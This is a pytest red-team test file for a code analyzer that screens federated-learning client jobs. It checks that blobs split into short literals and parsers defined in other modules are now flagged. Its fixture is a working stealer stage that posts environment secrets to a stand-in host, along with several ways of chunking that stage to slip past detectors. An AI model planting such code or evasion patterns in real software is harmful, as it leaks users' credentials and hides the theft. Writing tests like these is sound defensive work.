"""Red team 39b: code execution, resolution and configs, against an adversary who read the source.

Two holes, each accepted at f20bd7c:
- an opaque blob cut into literals below the blob checks' length (obfuscation.high-entropy-string and
  encoded-code read one literal at a time) and joined or decoded at run time, the pieces in another module,
  appended to a list, or class attributes: now obfuscation.assembled-blob;
- a config's command line replayed only through the modules whose text spells one of its options: a parser
  built in another module (`build_parser().parse_args()`, `dest=`), or the parse itself there (`get_args()`),
  hid where a value the config passes is written. Samples: corpus/*/rt39b_*, corpus/*/near_rt39b_*."""

from __future__ import annotations

import base64
from pathlib import Path

import pytest

import redteam_kit as kit
from analyzer.model import Decision

# A stealer stage, base64 (316 characters), cut into literals the per-literal checks do not read.
STAGE = base64.b64encode(b'import os, json, urllib.request\n'
                         b'keys = {k: v for k, v in os.environ.items() if "KEY" in k or "SECRET" in k}\n'
                         b'urllib.request.urlopen("https://telemetry.example/u", data=json.dumps(keys).encode())\n'
                         ).decode()
PIECES = [STAGE[i:i + 50] for i in range(0, len(STAGE), 50)]
LOOP = """
import nvflare.client as flare

flare.init()
while flare.is_running():
    model = flare.receive()
    flare.send(flare.FLModel(params=model.params))
"""


@pytest.mark.parametrize("assembly", [
    "ASSET = base64.b64decode(''.join([{pieces}]))",
    "PARTS = [{pieces}]\nASSET = base64.b64decode(''.join(PARTS))",
    "PARTS = ({pieces},)\nASSET = base64.b64decode(''.join(map(str, PARTS)))",
    "PARTS = {{i: p for i, p in enumerate([{pieces}])}}\nASSET = base64.b64decode(''.join(PARTS.values()))",
    "PARTS = []\nfor p in [{pieces}]:\n    PARTS.append(p)\nASSET = base64.b64decode(''.join(PARTS))",
    "ASSET = base64.b64decode({plus})",
    "ASSET = codecs.decode(({plus}).encode(), 'base64')",
    "ASSET = ''.join([{pieces}])",  # joined only: as opaque as one literal of it
])
def test_a_blob_cut_into_short_literals_is_judged_as_one(tmp_path: Path, assembly: str) -> None:
    code = assembly.format(pieces=", ".join(map(repr, PIECES)), plus=" + ".join(map(repr, PIECES)))
    report = kit.scan_source(tmp_path, "import base64\nimport codecs\n\n" + code + "\n" + LOOP)
    kit.assert_held(report, "obfuscation.assembled-blob")


def test_the_pieces_in_another_module_of_the_job(tmp_path: Path) -> None:
    report = kit.scan_files(tmp_path, {
        "assets.py": "TABLE = [\n" + "".join(f"    {p!r},\n" for p in PIECES) + "]\n",
        "client.py": "import base64\n\nimport assets\n\nCALIBRATION = base64.b64decode(''.join(assets.TABLE))\n" + LOOP})
    assert "obfuscation.assembled-blob" in kit.rules(report)
    assert report.decision is not Decision.ACCEPT


@pytest.mark.parametrize("code", [
    # a help text and a URL joined from parts, tags joined with commas, a short token decoded
    "HELP = ''.join(['Federated averaging client: receives the global model, trains it for the configured ',"
    " 'number of local epochs on the site split and sends the weights back with the number of examples.'])",
    "URL = '/'.join(['https://download.pytorch.org', 'models', 'resnet18-f37072fd.pth'])",
    "TAGS = ','.join(['cifar10', 'fedavg', 'resnet18', 'lr0p01', 'bs64', 'epochs2', 'seed42', 'site-local'])",
    "TAG = base64.b64decode('c2l0ZS0x' + 'LWNpZmFyMTA=').decode()",
    "MODELS = ['resnet18-f37072fd', 'efficientnet_b0_rwightman-7f5810bc', 'vit_b_16-c867db91']\n"
    "TAG = base64.b64decode('c2l0ZS0xLWNpZmFyMTA=').decode()",
])
def test_joined_text_and_small_tokens_stay_accepted(tmp_path: Path, code: str) -> None:
    kit.assert_accepted(kit.scan_source(tmp_path, "import base64\n\n" + code + "\n" + LOOP))


OPTIONS = """\
import argparse


def build_parser():
    parser = argparse.ArgumentParser()
    parser.add_argument("--epochs", type=int, default=1)
    parser.add_argument("--export-dir"{dest}, default="./export")
    return parser


def get_args():
    return build_parser().parse_args()
"""
CLIENT = """\
import os

import nvflare.client as flare
import torch

from options import {imported}


def main():
    args = {parse}
    flare.init()
    while flare.is_running():
        model = flare.receive()
        os.makedirs(args.{read}, exist_ok=True)
        torch.save(model.params, os.path.join(args.{read}, "global.pt"))
        flare.send(flare.FLModel(params=model.params))


if __name__ == "__main__":
    main()
"""


def _job(root: Path, app_config: str, dest: str, imported: str, parse: str, read: str) -> Path:
    return kit.client_api_job(root, {"options.py": OPTIONS.format(dest=dest),
                                     "client.py": CLIENT.format(imported=imported, parse=parse, read=read)},
                              app_config)


PARSERS = [  # (dest=, what client.py imports, how it parses, what it reads)
    ("", "build_parser", "build_parser().parse_args()", "export_dir"),
    (', dest="snapshots"', "build_parser", "build_parser().parse_args()", "snapshots"),
    ("", "get_args", "get_args()", "export_dir"),
    (', dest="snapshots"', "get_args", "get_args()", "snapshots"),
]


@pytest.mark.parametrize("dest, imported, parse, read", PARSERS)
def test_a_value_the_config_passes_is_seen_where_another_module_builds_the_parser(
        tmp_path: Path, dest: str, imported: str, parse: str, read: str) -> None:
    report = kit.scan(_job(tmp_path, "--epochs 2 --export-dir /srv/exports/cifar10", dest, imported, parse, read))
    assert "file-exfiltration.write-outside" in kit.rules(report), kit.findings(report)
    assert report.decision is not Decision.ACCEPT


@pytest.mark.parametrize("dest, imported, parse, read", PARSERS)
def test_a_value_inside_the_workspace_stays_accepted(
        tmp_path: Path, dest: str, imported: str, parse: str, read: str) -> None:
    kit.assert_accepted(kit.scan(_job(tmp_path, "--epochs 2 --export-dir ./export/cifar10", dest, imported, parse,
                                      read)))


@pytest.mark.parametrize("sample", ["jobs/rt39b_blob_chunks_other_module", "malicious/rt39b_blob_parts_appended.py",
                                    "malicious/rt39b_blob_class_attrs.py", "jobs/rt39b_argparse_dest_other_module",
                                    "jobs/rt39b_argparse_parse_other_module", "borderline/lead38_chunked_blob.py"])
def test_samples_accepted_before_are_not_accepted(sample: str) -> None:
    assert kit.scan_sample(sample).decision is not Decision.ACCEPT


@pytest.mark.parametrize("sample", ["benign/near_rt39b_joined_text_and_token.py",
                                    "jobs/near_rt39b_argparse_dest_other_module"])
def test_the_honest_twins_stay_accepted(sample: str) -> None:
    assert kit.scan_sample(sample).decision is Decision.ACCEPT
